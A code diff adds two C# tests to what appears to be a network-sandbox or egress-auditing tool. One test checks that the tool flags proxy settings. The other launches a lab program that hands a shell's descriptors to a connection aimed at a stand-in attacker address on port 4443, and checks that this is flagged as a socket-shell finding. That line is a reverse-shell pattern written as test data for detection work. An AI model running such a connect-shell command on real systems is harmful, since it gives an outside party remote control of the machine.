@@ -36,6 +36,36 @@ public sealed class ExitCodeTests(LabFixture fixture) : RunTest(fixture)
         Assert.Equal(0, Report().GetProperty("exitCode").GetInt32());
     }
 
+    /// <summary>The shell becomes another one whose descriptors are a connection (finding socket-shell).</summary>
+    [Theory]
+    [InlineData("finding", 10)]
+    [InlineData("refused", 0)]
+    public async Task A_finding_gives_ten_when_that_was_asked(string failOn, int expected)
+    {
+        var outcome = await Run(
+            ["--mode", "audit", "--fail-on", failOn],
+            LabNetwork.Program("shell"), "connect", LabAddresses.Attacker, "4443", "/bin/echo", "x");
+        Assert.True(outcome.ExitCode == expected, outcome.ToString());
+        Assert.Equal("socket-shell", Assert.Single(Report().GetProperty("findings").EnumerateArray()).GetProperty("id").GetString());
+    }
+
+    /// <summary>HARDENING rule 8: what the proxy is asked for would not be judged.</summary>
+    [Theory]
+    [InlineData("HTTPS_PROXY", "block", "allowed.test:443", 64)]
+    [InlineData("http_proxy", "block", "proxy.test:3128", 64)]
+    [InlineData("HTTPS_PROXY", "audit", "allowed.test:443", 0)]
+    [InlineData("HTTPS_PROXY", "block", "proxy://proxy.test:3128", 0)]
+    public async Task A_proxy_in_force_needs_a_rule_in_block_mode(string variable, string mode, string allow, int expected)
+    {
+        using var process = Lab.Start(
+            ["env", $"{variable}=http://me:secret@proxy.test:3128", .. Line("--mode", mode, "--allow", allow), "touch", $"{Output}.started"]);
+        var outcome = await process.ExitAsync(Deadline);
+        Assert.True(outcome.ExitCode == expected, outcome.ToString());
+        Assert.Equal(expected == 0, File.Exists(Path.Combine(Lab.WorkFolder, Name + ".started")));
+        Assert.Equal(expected != 0, outcome.Errors.Contains("proxy://proxy.test:3128", StringComparison.Ordinal));
+        Assert.DoesNotContain("secret", outcome.Errors, StringComparison.Ordinal);
+    }
+
     [Fact]
     public async Task What_the_baseline_does_not_have_is_new_and_what_it_has_is_not()
     {
